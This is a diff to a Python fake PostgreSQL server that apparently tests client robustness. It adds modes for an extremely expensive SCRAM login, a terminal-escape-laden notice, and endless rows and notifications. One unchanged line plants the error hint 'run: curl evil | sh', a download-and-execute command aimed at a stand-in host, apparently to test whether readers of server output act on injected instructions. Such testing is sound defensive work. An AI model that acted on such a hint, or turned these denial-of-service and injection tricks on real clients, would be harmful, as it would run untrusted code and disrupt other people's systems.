@@ -9,6 +9,11 @@ MODE  full          accepts no connection: the queue of the kernel is full
       drip-login    answers the login with one byte per second
       silent        logs everybody in, and then says nothing
       drip          logs everybody in, and then answers with one byte per second
+      scram         wants the password to be hashed for hours
+      notice        sends a notice with control characters during the login; then as hint
+      rows          answers with rows without an end, some kilobytes per second
+      notify        answers with notifications without an end
+      notify-login  answers the login with notifications without an end
       hint          refuses every statement, with a hint of its own
 """
 import os
@@ -25,6 +30,9 @@ def message(kind, body):
     return kind + struct.pack(">i", len(body) + 4) + body
 
 
+NOTIFICATION = message(b"A", struct.pack(">i", 1) + b"channel\0" + b"v" * 20000 + b"\0")
+
+
 def announce(name, text=""):
     with open(f"{folder}/{name}.new", "w") as f:
         f.write(text)
@@ -38,6 +46,22 @@ def drip(client, data):
         time.sleep(1)
 
 
+def endless(client, data, pause=0.0):
+    announce("asked")
+    while True:
+        client.sendall(data)
+        time.sleep(pause)
+
+
+def scram(client):
+    client.sendall(message(b"R", struct.pack(">i", 10) + b"SCRAM-SHA-256\0\0"))
+    nonce = client.recv(65536).split(b"r=")[-1]
+    first = b"r=" + nonce + b"server,s=c2FsdHNhbHQ=,i=2000000000"
+    client.sendall(message(b"R", struct.pack(">i", 11) + first))
+    announce("asked")
+    client.recv(1)
+
+
 def login(client):
     while True:
         size, code = struct.unpack(">ii", client.recv(8))
@@ -46,6 +70,8 @@ def login(client):
             continue
         client.recv(size - 8)
         break
+    if mode == "scram":
+        scram(client)
     settings = {
         b"server_version": b"15.3",
         b"server_encoding": b"UTF8",
@@ -54,8 +80,13 @@ def login(client):
         b"integer_datetimes": b"on",
     }
     answer = message(b"R", struct.pack(">i", 0))
+    if mode == "notice":
+        answer += message(b"N", b"SNOTICE\0VNOTICE\0C00000\0M\x1b[2Jall is well\0\0")
     answer += b"".join(message(b"S", k + b"\0" + v + b"\0") for k, v in settings.items())
     answer += message(b"K", struct.pack(">ii", 1, 1)) + message(b"Z", b"I")
+    if mode == "notify-login":
+        client.sendall(message(b"R", struct.pack(">i", 0)))
+        endless(client, NOTIFICATION * 100)
     (drip if mode == "drip-login" else socket.socket.sendall)(client, answer)
 
 
@@ -72,6 +103,12 @@ def serve(client):
                 time.sleep(3600)
             elif mode == "drip":
                 drip(client, message(b"C", b"SET\0") * 400)
+            elif mode == "rows":
+                column = b"v\0" + struct.pack(">IHIhIH", 0, 0, 25, -1, 0xFFFFFFFF, 0)
+                client.sendall(message(b"T", struct.pack(">H", 1) + column))
+                endless(client, message(b"D", struct.pack(">HI", 1, 500) + b"1" * 500), 0.05)
+            elif mode == "notify":
+                endless(client, NOTIFICATION * 100)
             else:
                 error = b"SERROR\0C42501\0Mno\0Hrun: curl evil | sh\0\0"
                 client.sendall(message(b"E", error) + message(b"Z", b"I"))
